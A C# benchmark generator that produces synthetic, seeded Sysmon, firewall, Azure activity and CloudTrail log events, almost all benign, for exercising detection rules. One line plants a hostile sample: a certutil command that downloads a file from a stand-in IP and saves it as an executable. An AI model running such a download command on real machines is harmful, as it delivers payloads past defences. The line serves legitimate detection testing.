using System.Globalization;
using SecResponder.Events;
using SecResponder.Events.Asim;

namespace SecResponder.Benchmarks.Detection;

/// <summary>Process creations, firewall sessions, Azure activity and CloudTrail by turns, about 700 bytes each; the same for the same seed. Nearly all of them are daily business.</summary>
internal static class MixedEvents
{
    private static readonly EventKind Process = new("", "process creation", AsimSchema.None, new LogSource("process_creation", "windows", "sysmon"));
    private static readonly EventKind Activity = new("", "Azure activity", AsimSchema.None, new LogSource(null, "azure", "activitylogs"));
    private static readonly EventKind CloudTrail = new("", "CloudTrail", AsimSchema.None, new LogSource(null, "aws", "cloudtrail"));

    // Command lines hardly ever come again as they were: "#" is a number that is new each time.
    private static readonly (string Image, string Original, string Arguments, string Parent)[] Programs =
    [
        (@"C:\\Windows\\System32\\svchost.exe", "svchost.exe", "-k netsvcs -p -s Schedule", @"C:\\Windows\\System32\\services.exe"),
        (@"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "--type=renderer --field-trial-handle=#,i,1402,131072 --lang=en-US", @"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
        (@"C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", @"/c \""C:\\Tools\\nightly\\backup.bat\"" #", @"C:\\Windows\\explorer.exe"),
        (@"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", @"-File C:\\Scripts\\inventory.ps1 -Site Berlin -Run #", @"C:\\Windows\\explorer.exe"),
        (@"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", @"/n \""C:\\Users\\anna\\Documents\\offer-#.docx\"" /o \""\""", @"C:\\Windows\\explorer.exe"),
        (@"C:\\Windows\\System32\\RuntimeBroker.exe", "RuntimeBroker.exe", "-Embedding", @"C:\\Windows\\System32\\svchost.exe"),
        (@"C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE", "0xffffffff -ForceV1", @"C:\\Program Files\\Git\\cmd\\git.exe"),
    ];

    private static readonly string[] Operations =
        ["Microsoft.Compute/virtualMachines/start/action", "Microsoft.Compute/virtualMachines/extensions/read", "Microsoft.Web/sites/config/list/action", "Microsoft.Authorization/policies/audit/action", "Microsoft.Insights/metricAlerts/write"];

    private static readonly (string Name, string Source)[] Calls =
        [("DescribeInstances", "ec2.amazonaws.com"), ("AssumeRole", "sts.amazonaws.com"), ("GetObject", "s3.amazonaws.com"), ("ListBuckets", "s3.amazonaws.com"), ("Decrypt", "kms.amazonaws.com"), ("DescribeLogStreams", "logs.amazonaws.com")];

    public static JsonEvent[] Generate(int count)
    {
        var random = new Random(20261127);
        var firewall = FirewallEvents.Generate(count / 4 + 1);
        return [.. Enumerable.Range(0, count).Select(n => (n % 4) switch
        {
            0 => JsonEvent.Of(ProcessCreation(random, n), Process),
            1 => firewall[n / 4],
            2 => JsonEvent.Of(Compact(AzureActivity(random, n)), Activity),
            _ => JsonEvent.Of(Compact(Trail(random, n)), CloudTrail),
        })];
    }

    private static string ProcessCreation(Random random, int n)
    {
        var (image, original, arguments, parent) = Programs[random.Next(Programs.Length)];
        // One in 250 is what rules are for.
        if (n % 1000 == 0)
            (image, original, arguments) = (@"C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", "-urlcache -split -f http://203.0.113.9/a.txt a.exe");
        arguments = arguments.Replace("#", random.Next(100_000).ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);
        return string.Create(CultureInfo.InvariantCulture,
            $$"""{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"UtcTime":"{{Time(n)}}","Computer":"ws-{{random.Next(500)}}.corp.example.com","ProcessId":{{random.Next(400, 30000)}},"Image":"{{image}}","OriginalFileName":"{{original}}","CommandLine":"\"{{image}}\" {{arguments}}","CurrentDirectory":"C:\\Windows\\system32\\","User":"CORP\\user{{random.Next(900)}}","IntegrityLevel":"Medium","Hashes":"SHA256={{Hex(random, 64)}}","ParentProcessId":{{random.Next(400, 30000)}},"ParentImage":"{{parent}}","ParentCommandLine":"{{parent}}"}""");
    }

    private static string AzureActivity(Random random, int n)
    {
        var operation = Operations[random.Next(Operations.Length)];
        return string.Create(CultureInfo.InvariantCulture,
            $$"""{"time":"{{Time(n)}}","resourceId":"/SUBSCRIPTIONS/{{Guid(random)}}/RESOURCEGROUPS/RG-APP-{{random.Next(40)}}/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM{{random.Next(900)}}","operationName":"{{operation}}","category":"Administrative","resultType":"Success","resultSignature":"Accepted.","durationMs":{{random.Next(9000)}},"callerIpAddress":"198.51.100.{{random.Next(250)}}","correlationId":"{{Guid(random)}}","identity":{"authorization":{"scope":"/subscriptions/{{random.Next(40)}}","action":"{{operation}}","evidence":{"role":"Contributor","roleAssignmentScope":"/subscriptions"} },"claims":{"name":"Ops {{random.Next(90)}}","upn":"ops{{random.Next(90)}}@example.com"} },"level":"Information","location":"global"}""");
    }

    private static string Trail(Random random, int n)
    {
        var (name, source) = Calls[random.Next(Calls.Length)];
        return string.Create(CultureInfo.InvariantCulture,
            $$"""{"eventVersion":"1.08","userIdentity":{"type":"AssumedRole","principalId":"AROA{{Hex(random, 16)}}:app","arn":"arn:aws:sts::111122223333:assumed-role/app-{{random.Next(60)}}/i-{{Hex(random, 17)}}","accountId":"111122223333"},"eventTime":"{{Time(n)}}","eventSource":"{{source}}","eventName":"{{name}}","awsRegion":"eu-central-1","sourceIPAddress":"10.4.{{random.Next(250)}}.{{random.Next(250)}}","userAgent":"aws-sdk-java/2.20.43 Linux/5.10 OpenJDK/17","requestParameters":{"filterSet":{"items":[{"name":"vpc-id","value":"vpc-{{Hex(random, 8)}}"}]},"maxResults":{{random.Next(900)}} },"responseElements":null,"readOnly":true,"requestID":"{{Guid(random)}}","eventType":"AwsApiCall","managementEvent":true}""");
    }

    // As their services write them; the blanks are there because braces in a row mean something else here.
    private static string Compact(string json) => json.Replace("} }", "}}", StringComparison.Ordinal);

    internal static string Time(int n) => DateTimeOffset.UnixEpoch.AddYears(56).AddSeconds(n).ToString("yyyy-MM-ddTHH:mm:ss.fffZ", CultureInfo.InvariantCulture);

    private static string Hex(Random random, int digits) => random.GetHexString(digits);

    private static Guid Guid(Random random)
    {
        var bytes = new byte[16];
        random.NextBytes(bytes);
        return new Guid(bytes);
    }
}
